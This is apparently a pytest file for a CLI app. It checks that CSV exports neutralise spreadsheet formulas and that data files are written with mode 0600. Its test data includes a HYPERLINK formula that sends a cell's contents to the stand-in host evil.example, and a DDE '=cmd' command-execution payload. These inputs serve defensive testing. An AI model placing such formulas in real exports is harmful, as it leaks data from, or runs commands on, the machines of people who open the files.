"""Plain exports and files on disk (issue 13): CSV cells never run as formulas; every file
Kindred writes with the person's data is 0600 whatever the folder's mode."""

from __future__ import annotations

import csv
import io
import json
import os
import stat

import pytest

from cli import main as kindred
from tests.privacy_support import PASSPHRASE
from tests.privacy_support import env, run  # noqa: F401 - a fixture and the CLI runner
from tests.sync_support import group

EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def open_folder(tmp_path):
    """An existing data folder with mode 0755 and a permissive umask, as the red team had."""
    folder = tmp_path / "data"
    folder.mkdir()
    folder.chmod(0o755)
    previous = os.umask(0o022)
    yield folder
    os.umask(previous)


def test_saved_groups_csv_export_neutralises_formulas_from_feeds_and_notes(open_folder, env, tmp_path, capsys):
    feed = tmp_path / "evil.json"
    bad = {**group(1), "id": "evil", "name": EVIL_NAME}
    feed.write_text(json.dumps({"format": "kindred-directory", "version": 1, "publisher": {"name": "x"}, "groups": [bad]}))
    assert run(open_folder, "directory", "import", str(feed)) == 0
    assert run(open_folder, "setup") == 0
    assert run(open_folder, "saved", "add", "evil/evil", "--note", "+1-800 ring them; @home =SUM(A1)") == 0
    assert run(open_folder, "saved", "add", "bundled/smart-recovery", "--note", "-   =cmd|' /C calc'!A0") == 0
    out = tmp_path / "saved.csv"
    assert run(open_folder, "saved", "export", "-o", str(out)) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    by_id = {row["group_id"]: row for row in rows}
    assert by_id["evil/evil"]["name"] == "'" + EVIL_NAME
    assert by_id["evil/evil"]["note"] == "'+1-800 ring them; @home =SUM(A1)"
    assert by_id["bundled/smart-recovery"]["note"].startswith("'-")
    for row in rows:
        assert all(not value or value[0] not in "=+-@\t\r" for value in row.values())
    assert mode(out) == 0o600


def test_plain_exports_are_0600(open_folder, env, tmp_path):
    assert run(open_folder, "setup") == 0
    assert run(open_folder, "saved", "add", "bundled/smart-recovery", "--note", "n") == 0
    assert run(open_folder, "journal", "add", "--mood", "3") == 0
    for name, args in (("saved.json", ("saved", "export")), ("journal.csv", ("journal", "export", "--format", "csv")),
                       ("journal.json", ("journal", "export", "--format", "json"))):
        target = tmp_path / name
        assert run(open_folder, *args, "-o", str(target)) == 0, name
        assert mode(target) == 0o600, name


def test_databases_and_their_wal_files_are_0600_in_an_existing_0755_folder(open_folder, env, tmp_path):
    assert run(open_folder, "setup") == 0
    assert run(open_folder, "saved", "add", "bundled/smart-recovery", "--note", "n") == 0
    files = [p for p in open_folder.iterdir() if p.is_file()]
    assert {"private.sqlite", "directory.sqlite"} <= {p.name for p in files}
    assert {p.name: mode(p) for p in files} == {p.name: 0o600 for p in files}
    backup = tmp_path / "backup.kindred"
    assert run(open_folder, "backup", "create", "-o", str(backup)) == 0
    assert mode(backup) == 0o600
    assert run(open_folder, "backup", "restore", str(backup), "--yes") == 0
    snapshots = list((open_folder / "snapshots").iterdir())
    assert snapshots and all(mode(p) == 0o600 for p in snapshots)


def test_an_existing_world_readable_database_is_tightened(open_folder, env):
    assert run(open_folder, "setup") == 0
    (open_folder / "private.sqlite").chmod(0o644)
    assert run(open_folder, "saved", "list") == 0
    assert mode(open_folder / "private.sqlite") == 0o600
